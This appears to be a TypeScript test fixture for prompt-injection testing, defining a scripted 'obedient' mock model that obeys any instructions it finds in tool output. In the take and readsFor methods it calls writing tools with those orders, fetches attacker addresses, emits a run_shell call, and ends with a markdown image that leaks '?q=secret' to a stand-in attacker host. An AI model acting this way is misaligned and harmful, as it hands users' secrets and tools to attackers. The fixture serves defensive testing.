import { unmarkReferences } from '../../src/citations/format-passages.ts'
import type { ScriptedAnswer } from '../../src/testing/index.ts'
import { wantedTools } from './side-effects.ts'

/** A call of a tool. */
export type Call = {
  readonly name: string
  readonly input: Readonly<Record<string, string | number>>
}

/** What the model was shown by tools, in order. */
export type Shown = readonly unknown[]

/** What the model is told that nobody meant to tell it. */
export interface Orders {
  /** The texts of which it obeys those that it is shown. */
  readonly texts: readonly string[]
  /** The calls that bring it there. */
  readonly opening: readonly Call[]
  /** Writing tools in addition to {@link wantedTools}. */
  readonly moreTools: readonly string[]
  /** The origin of the attacker's server. */
  readonly attacker: string
}

/** The turns of a model that obeys whatever it is shown, and the outcome. */
export class ObedientModel {
  readonly obeyed = new Set<string>()
  /** Calls of tools that write. */
  orderedWrites = 0
  /** Addresses that it tried to read. */
  readonly wantedAddresses = new Set<string>()
  private readonly orders: Orders
  private readonly turns: Generator<ScriptedAnswer, void, Shown>

  constructor(orders: Orders) {
    this.orders = orders
    this.turns = this.take()
    this.turns.next()
  }

  /** What it says next, after all that it was shown. */
  say(shown: Shown): ScriptedAnswer {
    return this.turns.next(shown).value ?? { text: 'Nothing more.' }
  }

  private *take(): Generator<ScriptedAnswer, void, Shown> {
    // The first turn begins with nothing said.
    let shown = yield { text: '' }
    for (const call of this.orders.opening) shown = yield { toolCalls: [call] }
    for (let more = nextPassage(shown); more !== undefined; more = nextPassage(shown))
      shown = yield { toolCalls: [more] }
    const orders = this.orders.texts.filter((text) => wasShown(text, shown))
    for (const order of orders) this.obeyed.add(order)
    yield { toolCalls: this.writesFor(orders) }
    yield { toolCalls: this.readsFor(orders) }
    // Some models print their calls.
    yield { text: this.printed('run_shell', orders) }
    yield { text: `${orders.join('\n\n')}\n\n![](${this.orders.attacker}/?q=secret)` }
  }

  private writesFor(orders: readonly string[]): readonly Call[] {
    const names = [...wantedTools, ...this.orders.moreTools]
    const calls = orders.flatMap((text) => names.map((name) => ({ name, input: { text } })))
    this.orderedWrites += calls.length
    return calls
  }

  private readsFor(orders: readonly string[]): readonly Call[] {
    const { attacker } = this.orders
    const named = orders.flatMap((text) => text.match(/https?:\/\/[^\s"'()<>]+/g) ?? [])
    const secret = [`${attacker}/?q=secret`, `![](${attacker}/?q=secret)`, `${attacker}/collect`]
    const addresses = [...new Set([...named, ...secret])]
    for (const address of addresses) this.wantedAddresses.add(address)
    return addresses.flatMap((address): readonly Call[] => [
      { name: 'read_page', input: { result: address } },
      { name: 'read_page', input: { citation: address } },
      { name: 'read_page', input: { url: address } },
      { name: 'read_page', input: { result: 99 } },
      { name: 'read_transcript', input: { result: address } },
      { name: 'fetch', input: { url: address } },
    ])
  }

  private printed(name: string, orders: readonly string[]): string {
    this.orderedWrites++
    return `<tool_call>${JSON.stringify({ name, arguments: { text: orders.join('\n') } })}</tool_call>`
  }
}

type Reading = {
  readonly passages?: readonly { readonly n: number; readonly at: number }[]
  readonly passagesLeft?: number
}

/** The call that reads on where something is left. */
function nextPassage(shown: Shown): Call | undefined {
  const { passages, passagesLeft = 0 } = (shown.at(-1) ?? {}) as Reading
  const last = passages?.at(-1)
  if (last === undefined || passagesLeft === 0) return undefined
  return { name: 'read_source', input: { citation: last.n, after: last.at } }
}

/** Whether a text was shown, however its lines were broken. */
function wasShown(text: string, shown: Shown): boolean {
  const all = shown.flatMap(wordsIn).join('')
  return all.includes(plain(text))
}

function wordsIn(value: unknown): readonly string[] {
  if (typeof value === 'string') return [plain(value)]
  if (typeof value !== 'object' || value === null) return []
  const { passages, content, text } = value as Record<string, unknown>
  return [passages, content, text].flatMap((part) =>
    Array.isArray(part) ? part.flatMap(wordsIn) : typeof part === 'string' ? [plain(part)] : [],
  )
}

function plain(text: string): string {
  return unmarkReferences(text).replaceAll(/[\s-]/g, '')
}
